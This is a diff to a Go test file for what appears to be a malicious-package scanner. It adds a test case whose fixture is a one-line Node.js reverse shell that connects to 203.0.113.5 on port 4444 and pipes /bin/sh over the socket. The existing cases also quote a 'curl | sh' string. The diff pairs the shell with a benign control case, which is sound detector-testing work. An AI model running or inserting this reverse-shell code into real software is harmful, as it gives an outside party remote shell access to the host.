@@ -16,3 +16,10 @@ func TestSpawn(t *testing.T) {
 		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
 	})
 }
+
+func TestReverseShell(t *testing.T) {
+	rt.Check(t, ReverseShell{}, []rt.Case{
+		{"socket_shell", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const c=new net.Socket();c.connect(4444,"203.0.113.5",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c)})`}, finding.SeverityCritical},
+		{"server_runs_git", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");net.createServer(s=>s.end("ok"));spawn("git",["pull"])`}, finding.SeverityNone},
+	})
+}
